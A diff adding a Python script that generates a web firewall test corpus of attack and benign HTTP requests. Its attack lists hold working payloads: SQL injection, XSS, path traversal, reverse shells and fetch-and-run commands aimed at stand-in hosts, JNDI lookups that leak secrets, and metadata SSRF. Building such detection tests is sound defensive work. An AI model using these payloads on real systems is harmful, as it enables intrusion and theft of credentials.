@@ -1,0 +1,788 @@
+#!/usr/bin/env python3
+"""Writes the WAF corpus (attacks/<group>.jsonl, benign/*.jsonl) from the payload
+lists below, each attack in several encodings and places. The output is checked in;
+rerun after editing: `python3 gateway/waf/corpus/gen.py`.
+
+Each line is the replay JSON-lines format (see tollgate_waf::replay) plus:
+  "group": the group expected to catch it (attacks), "set": "a" (written first, used
+  while writing rules) or "b" (written afterwards as a held-out check), "note".
+Deterministic: no randomness beyond a fixed seed.
+"""
+import base64
+import json
+import os
+import random
+import urllib.parse
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+rnd = random.Random(16)
+
+UA_BROWSER = [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
+    "okhttp/4.12.0",
+    "python-requests/2.31.0",
+    "curl/8.5.0",
+    "Go-http-client/2.0",
+    "PostmanRuntime/7.37.3",
+    "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+]
+
+
+def q(s):
+    return urllib.parse.quote(s, safe="")
+
+
+def q_min(s):
+    # What a browser leaves readable: only what breaks the URL is encoded.
+    return "".join(c if c.isalnum() or c in "-_.~!$'()*,;:@/?=<>\"`{}[]|\\^" else q(c) for c in s).replace("&", "%26").replace("#", "%23").replace("+", "%2B")
+
+
+def mixed_case(s):
+    return "".join(c.upper() if rnd.random() < 0.5 else c.lower() for c in s)
+
+
+def base_headers(ua=None):
+    return {
+        "Host": "shop.example.com",
+        "User-Agent": ua or rnd.choice(UA_BROWSER[:5]),
+        "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        "Accept-Language": "en-US,en;q=0.9",
+        "Accept-Encoding": "gzip, deflate, br",
+    }
+
+
+def req(method, target, headers=None, body=None, **extra):
+    r = {"method": method, "target": target, "headers": headers or base_headers()}
+    if body is not None:
+        r["body"] = body
+    r.update(extra)
+    return r
+
+
+PARAMS = ["q", "id", "search", "name", "page", "user", "item", "cat", "file", "url", "redirect", "comment", "lang", "sort", "filter"]
+
+
+def variants(payload, n, kinds=None):
+    """`n` placements of a value payload, rotating through encodings and places."""
+    kinds = kinds or ["query", "query_min", "double", "form", "json", "header", "cookie", "mixed", "multipart", "path"]
+    out = []
+    start = rnd.randrange(len(kinds))
+    for i in range(n):
+        kind = kinds[(start + i) % len(kinds)]
+        p = rnd.choice(PARAMS)
+        h = base_headers()
+        if kind == "query":
+            out.append(req("GET", f"/products?{p}={q(payload)}&limit=10", h, note=kind))
+        elif kind == "query_min":
+            out.append(req("GET", f"/search?{p}={q_min(payload)}", h, note=kind))
+        elif kind == "double":
+            out.append(req("GET", f"/view?{p}={q(q(payload))}", h, note=kind))
+        elif kind == "mixed":
+            out.append(req("GET", f"/list?{p}={q(mixed_case(payload))}", h, note=kind))
+        elif kind == "form":
+            h["Content-Type"] = "application/x-www-form-urlencoded"
+            out.append(req("POST", "/account/update", h, f"email=a%40b.com&{p}={q(payload)}", note=kind))
+        elif kind == "json":
+            h["Content-Type"] = "application/json"
+            body = json.dumps({"order": {"note": payload, "qty": 2}, "tags": ["x", payload][-1:]})
+            out.append(req("POST", "/api/v1/orders", h, body, note=kind))
+        elif kind == "header":
+            name = rnd.choice(["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "X-Custom-Header"])
+            h[name] = payload if name != "Referer" else "https://shop.example.com/?" + p + "=" + payload
+            out.append(req("GET", "/", h, note=kind + ":" + name))
+        elif kind == "cookie":
+            h["Cookie"] = f"session=abc123; {p}={q(payload)}; theme=dark"
+            out.append(req("GET", "/home", h, note=kind))
+        elif kind == "multipart":
+            h["Content-Type"] = "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"
+            body = (
+                "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n"
+                f'Content-Disposition: form-data; name="{p}"\r\n\r\n{payload}\r\n'
+                "------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"
+            )
+            out.append(req("POST", "/upload", h, body, note=kind))
+        elif kind == "path":
+            out.append(req("GET", f"/api/items/{q(payload)}", h, note=kind))
+    return out
+
+
+# ---------------------------------------------------------------------------
+# Attacks. Set "a" was written first; set "b" afterwards as a held-out check.
+ATTACKS = {
+    "sqli": {
+        "a": [
+            "1' OR '1'='1",
+            "' OR 1=1--",
+            "admin'--",
+            "1 UNION SELECT username, password FROM users--",
+            "1' AND SLEEP(5)--",
+            "1; DROP TABLE users--",
+            "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
+            "1' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
+            "1/**/UNION/**/SELECT/**/1,2,3",
+            "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
+            "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
+            "'; EXEC xp_cmdshell('dir')--",
+            "1' ORDER BY 3--",
+            "\" or \"\"=\"",
+            "1)) OR ((1=1",
+            "-1 UNION SELECT 1,@@version,3",
+        ],
+        "b": [
+            "' or 'x'='x",
+            "1' and '1'='2' union select user(),2--",
+            "10 AND 1=1",
+            "'; WAITFOR DELAY '0:0:5'--",
+            "1' AND (SELECT 1 FROM pg_sleep(5))--",
+            "admin\" --",
+            "1%' AND 1=0 UNION SELECT load_file('/etc/passwd')--",
+            "') or ('a'='a",
+            "1 OR 2>1",
+            "1'||(SELECT CHR(65)||CHR(66) FROM dual)||'",
+            "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
+            "'-(select 1 from (select sleep(3))x)-'",
+            "1 AND updatexml(1,concat(0x3a,user()),1)",
+            "ORDER BY 1,2,3,4,5--",
+            "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)--",
+            "1;SELECT pg_sleep(10)",
+        ],
+    },
+    "xss": {
+        "a": [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(document.cookie)>",
+            "\"><svg/onload=alert(1)>",
+            "javascript:alert(1)",
+            "<iframe src=\"javascript:alert('xss')\"></iframe>",
+            "<body onload=alert('XSS')>",
+            "'-alert(1)-'",
+            "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>",
+            "<ScRiPt>prompt(1)</sCrIpT>",
+            "&lt;script&gt;alert(1)&lt;/script&gt;",
+            "<details open ontoggle=alert(1)>",
+            "<svg><script>alert&#40;1&#41;</script>",
+            "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
+            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        ],
+        "b": [
+            "<input autofocus onfocus=alert(1)>",
+            "<video><source onerror=\"alert(1)\">",
+            "\";alert(String.fromCharCode(88,83,83));//",
+            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
+            "<marquee onstart=alert(1)>",
+            "</textarea><script>alert(document.domain)</script>",
+            "<div style=\"background:url(javascript:alert(1))\">",
+            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
+            "<embed src=javascript:alert(1)>",
+            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click</a>",
+            "'><img src=1 onmouseover=confirm(1)>",
+            "<base href=\"javascript:alert(1)//\">",
+            "<form action=javascript:alert(1)><input type=submit>",
+        ],
+    },
+    "lfi": {
+        "a": [
+            "../../../../etc/passwd",
+            "..%2f..%2f..%2fetc%2fpasswd",
+            "....//....//....//etc/passwd",
+            "..\\..\\..\\windows\\win.ini",
+            "/etc/shadow",
+            "../../../../../../proc/self/environ",
+            "file/../../../../etc/hosts",
+            "../../../../etc/passwd%00.jpg",
+            "..%c0%af..%c0%afetc%c0%afpasswd",
+            "C:\\Windows\\System32\\drivers\\etc\\hosts",
+        ],
+        "b": [
+            "/../../../../../../../../boot.ini",
+            "..%252f..%252f..%252fetc%252fpasswd",
+            "../../../../var/log/apache2/access.log",
+            "....\\\\....\\\\....\\\\windows\\\\system.ini",
+            "/proc/self/cmdline",
+            "../../../../home/user/.ssh/id_rsa",
+            "%2e%2e/%2e%2e/%2e%2e/etc/group",
+            "../WEB-INF/web.xml",
+            "..;/..;/..;/etc/passwd",
+            "../../../../../../root/.bash_history",
+        ],
+    },
+    "rfi": {
+        "a": [
+            ("page", "http://evil.example/shell.txt?"),
+            ("file", "http://203.0.113.66/backdoor.php"),
+            ("include", "https://attacker.example/c99.txt"),
+            ("template", "ftp://203.0.113.9/payload.txt"),
+            ("path", "http://evil.example/x.php%00"),
+            ("lang", "http://198.51.100.7/en.txt??"),
+        ],
+        "b": [
+            ("mosConfig_absolute_path", "http://evil.example/r57.txt?"),
+            ("dir", "https://198.51.100.23/inc/shell.txt"),
+            ("module", "http://attacker.example/mod.php?"),
+            ("q", "http://203.0.113.5/x.txt?"),
+            ("conf", "\\\\198.51.100.9\\share\\evil.php"),
+            ("theme", "http://evil.example/theme.inc"),
+        ],
+    },
+    "rce": {
+        "a": [
+            "; cat /etc/passwd",
+            "| id",
+            "&& whoami",
+            "`id`",
+            "$(whoami)",
+            "127.0.0.1; ls -la",
+            ";cat${IFS}/etc/passwd",
+            "|| ping -c 3 203.0.113.5",
+            "; wget http://evil.example/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
+            "() { :; }; /bin/bash -c 'cat /etc/passwd'",
+            "& type C:\\Windows\\win.ini",
+            "| powershell -enc SQBFAFgA",
+            "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+            "x; c'a't /e't'c/pa's'swd",
+        ],
+        "b": [
+            "%0aid",
+            "1|nc -e /bin/sh 203.0.113.8 4444",
+            "; curl http://evil.example/$(whoami)",
+            "&& cmd /c dir",
+            "| /usr/bin/id",
+            "; sleep 10 #",
+            "127.0.0.1 && python -c 'import os;os.system(\"id\")'",
+            "() { _; } >_[$($())] { echo vulnerable; }",
+            ";{cat,/etc/passwd}",
+            "a;u\\n\\a\\m\\e -a",
+            "| net user",
+            "$(curl -s http://203.0.113.5/s|sh)",
+            "; rm -rf /tmp/*",
+            "& certutil -urlcache -split -f http://evil.example/a.exe a.exe",
+        ],
+    },
+    "php": {
+        "a": [
+            "php://filter/convert.base64-encode/resource=index.php",
+            "<?php system($_GET['cmd']); ?>",
+            "phar://uploads/avatar.jpg/test",
+            "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
+            "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
+            "php://input",
+            "expect://id",
+            "<?= `id` ?>",
+            "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));",
+            "phpinfo()",
+        ],
+        "b": [
+            "O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}",
+            "zip://uploads/x.zip#shell.php",
+            "shell_exec('ls -la');",
+            "assert($_POST['x']);",
+            "php://filter/read=string.rot13/resource=config.php",
+            "a:2:{i:0;O:9:\"Exploit12\":0:{}i:1;s:1:\"x\";}",
+            "passthru('cat /etc/passwd');",
+            "<?php echo file_get_contents('/etc/passwd'); ?>",
+            "preg_replace('/.*/e', 'system(\"id\")', '')",
+            "glob://*",
+        ],
+    },
+    "java": {
+        "a": [
+            "${jndi:ldap://evil.example:1389/a}",
+            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/x}",
+            "${jndi:dns://evil.example/${env:AWS_SECRET_ACCESS_KEY}}",
+            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
+            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
+            "T(java.lang.Runtime).getRuntime().exec('id')",
+            "#{''.getClass().forName('java.lang.Runtime')}",
+            "${T(java.lang.System).getenv()}",
+        ],
+        "b": [
+            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}",
+            "${jNdI:rMi://203.0.113.5:1099/Exploit}",
+            "${${upper:j}${upper:n}di:ldaps://evil.example/z}",
+            "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594",
+            "class.classLoader.URLs[0]=http://evil.example/",
+            "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec('id')}",
+            "new java.lang.ProcessBuilder('id').start()",
+            "${pageContext.request.getSession().setAttribute('a',1)}",
+            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/a\",\"autoCommit\":true}",
+            "${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a",
+        ],
+    },
+    "nodejs": {
+        "a": [
+            "{\"__proto__\":{\"isAdmin\":true}}",
+            "require('child_process').exec('id')",
+            "process.mainModule.require('child_process').execSync('id')",
+            "constructor.prototype.polluted=1",
+            "this.constructor.constructor('return process')().exit()",
+            "res.end(require('fs').readFileSync('/etc/passwd'))",
+        ],
+        "b": [
+            "global.process.mainModule.constructor._load('child_process').execSync('id')",
+            "{\"constructor\":{\"prototype\":{\"admin\":true}}}",
+            "require('child_process').spawnSync('ls')",
+            "__proto__[isAdmin]=true",
+            "process.kill(process.pid)",
+            "[].constructor.constructor('return this.process')()",
+        ],
+    },
+    "ssti": {
+        "a": [
+            "{{7*7}}",
+            "{{config.items()}}",
+            "${7*7}",
+            "<%= 7*7 %>",
+            "{{''.__class__.__mro__[1].__subclasses__()}}",
+            "{% import os %}{{ os.popen('id').read() }}",
+            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+            "#{7*7}",
+        ],
+        "b": [
+            "{{ 7 * '7' }}",
+            "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }",
+            "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
+            "#set($x = 7 * 7)$x",
+            "{{lipsum.__globals__['os'].popen('id').read()}}",
+            "<%= system('id') %>",
+            "{php}echo `id`;{/php}",
+            "{{#with \"s\" as |string|}}{{/with}}",
+        ],
+    },
+    "ssrf": {
+        "a": [
+            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+            "http://metadata.google.internal/computeMetadata/v1/",
+            "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
+            "http://2852039166/latest/meta-data/",
+            "http://0xa9fea9fe/",
+            "gopher://127.0.0.1:6379/_FLUSHALL",
+            "file:///etc/passwd",
+            "http://127.0.0.1:8080/admin",
+            "dict://localhost:11211/stats",
+        ],
+        "b": [
+            "http://0251.0376.0251.0376/latest/user-data",
+            "http://169.254.169.254.nip.io/",
+            "http://[0:0:0:0:0:ffff:169.254.169.254]/",
+            "http://user@169.254.169.254/computeMetadata/v1/",
+            "http://localhost/server-status",
+            "http://0x7f.1/",
+            "http://[::1]:22/",
+            "http://100.100.100.200/latest/meta-data/",
+            "http://169.254.43518/",
+        ],
+    },
+}
+
+# Groups whose attacks need their own shape.
+def special_attacks():
+    out = []
+
+    def add(group, s, r):
+        r["group"] = group
+        r["set"] = s
+        out.append(r)
+
+    # XXE: XML bodies, and XML in arguments.
+    xxe = {
+        "a": [
+            '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
+            '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><data>1</data>',
+            '<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//EN" "http://evil.example/x">]><r>&x;</r>',
+            '<?xml version="1.0"?><!DOCTYPE order SYSTEM "http://evil.example/order.dtd"><order><id>1</id></order>',
+            '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></root>',
+        ],
+        "b": [
+            '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY bar SYSTEM "file:///c:/windows/win.ini" >]><foo>&bar;</foo>',
+            '<!DOCTYPE svg [<!ENTITY % a SYSTEM "php://filter/convert.base64-encode/resource=/etc/hostname"> %a;]><svg/>',
+            '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 SYSTEM "expect://id">]><lolz>&lol2;</lolz>',
+            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/">]><soap:Body>&e;</soap:Body></soap:Envelope>',
+            '<?xml version="1.0"?><!DOCTYPE a PUBLIC "-//A//DTD A//EN" "http://evil.example/a.dtd"><a/>',
+        ],
+    }
+    for s, items in xxe.items():
+        for i, x in enumerate(items):
+            h = base_headers()
+            h["Content-Type"] = ["application/xml", "text/xml", "application/soap+xml"][i % 3]
+            add("xxe", s, req("POST", "/api/import", h, x, note="xml body"))
+            add("xxe", s, req("GET", "/parse?xml=" + q(x), base_headers(), note="xml in query"))
+
+    # NoSQL injection.
+    nos = {
+        "a": [
+            ("json", {"username": "admin", "password": {"$ne": None}}),
+            ("json", {"username": {"$gt": ""}, "password": {"$gt": ""}}),
+            ("query", "username[$ne]=x&password[$ne]=x"),
+            ("query", "user=admin&pass[$regex]=^a"),
+            ("json", {"$where": "this.password.match(/^a/)"}),
+            ("query", "q={\"$where\":\"sleep(5000)\"}"),
+            ("form", "login[$exists]=true&password[$ne]=1"),
+        ],
+        "b": [
+            ("json", {"email": {"$regex": ".*"}, "password": {"$exists": True}}),
+            ("query", "id[$in][]=1&id[$in][]=2&role[$nin][]=user"),
+            ("json", {"filter": {"$or": [{"a": 1}, {"b": {"$ne": 0}}]}}),
+            ("query", "search=' || '1'=='1"),
+            ("json", {"username": "admin", "password": "x'; return true; var a='"}),
+            ("form", "user[$gt]=&pass[$gt]="),
+            ("query", "filter=%7B%22price%22%3A%7B%22%24lt%22%3A0%7D%7D"),
+        ],
+    }
+    for s, items in nos.items():
+        for kind, v in items:
+            h = base_headers()
+            if kind == "json":
+                h["Content-Type"] = "application/json"
+                add("nosqli", s, req("POST", "/api/login", h, json.dumps(v), note=kind))
+            elif kind == "form":
+                h["Content-Type"] = "application/x-www-form-urlencoded"
+                add("nosqli", s, req("POST", "/login", h, v, note=kind))
+            else:
+                # Encode values but keep the structure of the query.
+                parts = []
+                for pair in v.split("&"):
+                    k, _, val = pair.partition("=")
+                    parts.append(k + "=" + q(val))
+                add("nosqli", s, req("GET", "/api/users?" + "&".join(parts), h, note=kind))
+                add("nosqli", s, req("GET", "/api/users?" + "&".join(q(p.split("=")[0]) + "=" + p.split("=", 1)[1] for p in parts), h, note="encoded names"))
+
+    # Scanners: user agents and probe paths.
+    sc_ua = {
+        "a": ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
+              "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"],
+        "b": ["Fuzz Faster U Fool v2.1.0", "gobuster/3.6", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
+              "Mozilla/5.0 (compatible; Acunetix-Scanner)", "Wfuzz/3.1.0", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Netsparker)"],
+    }
+    sc_path = {
+        "a": ["/.env", "/.git/config", "/wp-admin/setup-config.php", "/phpmyadmin/", "/.aws/credentials", "/server-status", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"],
+        "b": ["/.env.production", "/.git/HEAD", "/pma/index.php", "/actuator/env", "/backup.sql", "/.DS_Store", "/wp-config.php.bak", "/adminer.php"],
+    }
+    for s in "ab":
+        for ua in sc_ua[s]:
+            add("scanners", s, req("GET", "/", base_headers(ua), note="user agent"))
+            add("scanners", s, req("GET", "/index.php?id=1", base_headers(ua), note="user agent"))
+        for p in sc_path[s]:
+            add("scanners", s, req("GET", p, base_headers(UA_BROWSER[7]), note="probe path"))
+
+    # Session fixation.
+    sf = {
+        "a": [
+            ("GET", "/login?PHPSESSID=attacker123456", None, None),
+            ("GET", "/app;jsessionid=ABCDEF0123456789", None, None),
+            ("GET", "/?q=<meta http-equiv=\"Set-Cookie\" content=\"sessionid=evil\">", None, None),
+            ("GET", "/?x=document.cookie=\"JSESSIONID=evil; path=/; domain=.example.com\"", None, None),
+            ("GET", "/index.php?PHPSESSID=fixed&page=1", "https://evil.example/", None),
+        ],
+        "b": [
+            ("GET", "/account?jsessionid=1234abcd", None, None),
+            ("POST", "/login", None, "user=a&pass=b&sessionid=0123456789abcdef"),
+            ("GET", "/?name=%0d%0aSet-Cookie:%20sid=evil", None, None),
+            ("GET", "/shop;JSESSIONID=E2F1A9?item=3", "https://phish.example/x", None),
+            ("GET", "/?lang=en&ASPSESSIONIDQAQBCBTD=FIXED", None, None),
+        ],
+    }
+    for s, items in sf.items():
+        for method, target, referer, body in items:
+            h = base_headers()
+            if referer:
+                h["Referer"] = referer
+            if body:
+                h["Content-Type"] = "application/x-www-form-urlencoded"
+            if "?" in target:
+                path, _, qs = target.partition("?")
+                enc = "&".join(k + "=" + q(urllib.parse.unquote(v)) for k, _, v in (p.partition("=") for p in qs.split("&")))
+                target = path + "?" + enc
+            add("session_fixation", s, req(method, target, h, body, note="session"))
+
+    # Protocol: duplicate Host, NUL, too many arguments, method allow-list is off by default.
+    proto = {
+        "a": [
+            req("GET", "/", [["Host", "a.example"], ["Host", "b.example"], ["User-Agent", UA_BROWSER[0]]], note="duplicate host"),
+            req("GET", "/download?file=report.pdf%00.php", base_headers(), note="nul"),
+            req("GET", "/?" + "&".join(f"a{i}=1" for i in range(1200)), base_headers(), note="too many args"),
+            req("GET", "/?a=%0d%0aLocation:%20http://evil.example", base_headers(), note="response splitting"),
+        ],
+        "b": [
+            req("GET", "/x", [["Host", "shop.example.com"], ["host", "evil.example"]], note="duplicate host"),
+            req("POST", "/api", dict(base_headers(), **{"Content-Type": "application/x-www-form-urlencoded"}), "&".join(f"k{i}=v" for i in range(1500)), note="too many args"),
+            req("GET", "/page?title=abc%00def%00", base_headers(), note="nul"),
+            req("GET", "/r?u=x%0d%0a%0d%0a<html><script>alert(1)</script>", base_headers(), note="response splitting"),
+        ],
+    }
+    for s, items in proto.items():
+        for r in items:
+            add("protocol", s, r)
+    return out
+
+
+def attacks():
+    out = []
+    for group, sets in ATTACKS.items():
+        for s, payloads in sets.items():
+            for p in payloads:
+                if group == "rfi":
+                    name, url = p
+                    h = base_headers()
+                    for r in [
+                        req("GET", f"/index.php?{name}={q(url)}", h, note="query"),
+                        req("GET", f"/index.php?{name}={q_min(url)}", h, note="query_min"),
+                        req("POST", "/index.php", dict(h, **{"Content-Type": "application/x-www-form-urlencoded"}), f"{name}={q(url)}", note="form"),
+                    ]:
+                        r["group"], r["set"] = group, s
+                        out.append(r)
+                    continue
+                kinds = None
+                if group in ("ssrf",):
+                    kinds = ["query", "query_min", "form", "json", "double", "multipart"]
+                if group == "java" and p.startswith("class."):
+                    name, _, val = p.partition("=")
+                    for r in [
+                        req("GET", f"/?{name}={q(val)}", base_headers(), note="query name"),
+                        req("POST", "/", dict(base_headers(), **{"Content-Type": "application/x-www-form-urlencoded"}), f"{q(name)}={q(val)}", note="form name"),
+                    ]:
+                        r["group"], r["set"] = group, s
+                        out.append(r)
+                    continue
+                if group == "nodejs" and p.startswith("{"):
+                    h = base_headers()
+                    h["Content-Type"] = "application/json"
+                    for r in [req("POST", "/api/settings", h, p, note="json keys"), req("PUT", "/api/users/7", h, json.dumps({"profile": json.loads(p)}), note="nested keys")]:
+                        r["group"], r["set"] = group, s
+                        out.append(r)
+                    continue
+                if group == "nodejs" and p.startswith("__proto__["):
+                    for r in [req("GET", "/api/items?" + p, base_headers(), note="query name")]:
+                        r["group"], r["set"] = group, s
+                        out.append(r)
+                    continue
+                for r in variants(p, 4, kinds):
+                    r["group"], r["set"] = group, s
+                    out.append(r)
+    return out + special_attacks()
+
+
+# ---------------------------------------------------------------------------
+# Benign traffic: the false positives users hate most, and ordinary requests.
+PROSE = {
+    "a": [
+        "50% off -- today only",
+        "Run `ls -la` to list the files, then `cd ..` to go back.",
+        "I keep my configs in /etc and select the best option from the menu.",
+        "Renée O'Connor",
+        "O'Brien",
+        "time warner cable",
+        "Select the best option from the menu and click Update.",
+        "Please delete my account and drop me an email when it's done.",
+        "Tom & Jerry; the best cartoon ever",
+        "Is 5 > 3? Yes, and 2 < 4 too.",
+        "Call me at +1 (555) 123-4567 or email john.doe+news@example.com",
+        "We're open Mon–Fri, 9:00–17:00 (closed on holidays)",
+        "The union of two sets A and B is the set of elements in A or B.",
+        "I'd like to order 2x \"Large\" pizzas -- extra cheese, please!",
+        "Use the command line: git commit -m 'fix bug' && git push",
+        "Ça va? Très bien, merci. À bientôt!",
+        "Müller & Söhne GmbH, Königstraße 12, München",
+        "你好，世界！我们明天见。",
+        "مرحبا بالعالم، كيف حالك اليوم؟",
+        "Привет, как дела? Всё хорошо.",
+        "日本語のテキストです。よろしくお願いします。",
+        "नमस्ते, आप कैसे हैं?",
+        "Great product!!! 5/5 would buy again :) <3",
+        "My password hint: it's my dog's name + year",
+        "Where did you go?! -- Nowhere, really.",
+        "1 + 1 = 2, 2 * 3 = 6, and 10 / 2 = 5",
+        "He said \"hello\" and she said 'goodbye'.",
+        "Drop-off point: Gate 4 (near the café)",
+        "Script for the school play: Act 1, Scene 2",
+        "If x = 1 and y = 2 then x + y = 3",
+    ],
+    "b": [
+        "Sale: 30% off everything -- ends Sunday!",
+        "To see hidden files type `ls -a` in the terminal.",
+        "Files under /etc/nginx are managed by Ansible; select a role from the list.",
+        "D'Angelo O'Neill-Smith",
+        "Zoë D'Souza",
+        "AT&T and Time Warner merged in 2018.",
+        "Please select one: (a) yes, (b) no, (c) maybe",
+        "From: the sales team; To: all; Subject: update",
+        "Order #1234 — shipped via UPS; tracking 1Z999AA10123456784",
+        "Set the value to 'true' or 'false' in settings.",
+        "Insert coin, select drink, and enjoy!",
+        "We moved from Oracle to PostgreSQL last year; queries are faster now.",
+        "Who's on first? What's on second? I don't know's on third.",
+        "Shipping to: 123 Main St., Apt #4, Springfield, IL 62704",
+        "Ελληνικά: Καλημέρα σας!",
+        "Ünïcödé tëxt wïth àccénts",
+        "한국어 텍스트입니다.",
+        "עברית: שלום עולם",
+        "Türkçe: Günaydın, nasılsınız?",
+        "Remember: <b> is bold and <i> is italic in HTML.",
+        "The script runs every night at 2am; logs go to /var/tmp/app.log",
+        "version 2.3.1 (build 456) released 2024-05-01",
+        "Meeting notes: action items -> Alice; follow-up -> Bob",
+        "Price: $19.99 (was $24.99) -- save 20%",
+        "Email me at jane_o'reilly@example.org",
+        "Let's meet @ 5pm; bring snacks & drinks",
+        "Wait... what? -- that's not right!",
+        "Use ../images/logo.png as the relative link",
+        "My cat's name is Whiskers & my dog's is Rex.",
+        "Or maybe we should just order in tonight?",
+    ],
+}
+
+MARKDOWN = {
+    "a": [
+        "# Install\n\n```bash\nnpm install --save my-lib\nnpm run build\n```\n\nThen run `npm start`.",
+        "## Notes\n\n- item one\n- item *two*\n- [link](https://example.com/docs?page=2&lang=en)\n\n> quoted text",
+        "To debug, run:\n\n```\nls -la /var/log\ntail -f app.log | grep ERROR\n```",
+    ],
+    "b": [
+        "### Query example\n\n```sql\nSELECT name, email FROM customers WHERE country = 'DE' ORDER BY name;\n```\n\nThis lists German customers.",
+        "Steps:\n1. Open settings\n2. Click **Save**\n3. Reload with `Ctrl+R`\n\n![screenshot](https://cdn.example.com/img/s1.png)",
+        "```python\nimport os\nfor f in os.listdir('.'):\n    print(f)\n```",
+    ],
+}
+
+CODE = {
+    "a": [
+        "function add(a, b) { return a + b; }\nconsole.log(add(1, 2));",
+        "const x = items.filter(i => i.price > 10).map(i => i.name);",
+        "def greet(name):\n    return f\"Hello, {name}!\"",
+        "SELECT id, name FROM users WHERE id = ? -- parameterized",
+        "if (a && b || c) { doSomething(); }",
+    ],
+    "b": [
+        "for (let i = 0; i < 10; i++) { total += i; }",
+        "public static void main(String[] args) { System.out.println(\"hi\"); }",
+        "SELECT COUNT(*) FROM orders GROUP BY status;",
+        "curl -X POST https://api.example.com/v1/items -H 'Content-Type: application/json'",
+        "<div class=\"card\"><p>Hello</p></div>",
+    ],
+}
+
+GRAPHQL = {
+    "a": [
+        "query { user(id: 1) { name email } }",
+        "query GetPosts($first: Int!) { posts(first: $first) { edges { node { id title } } } }",
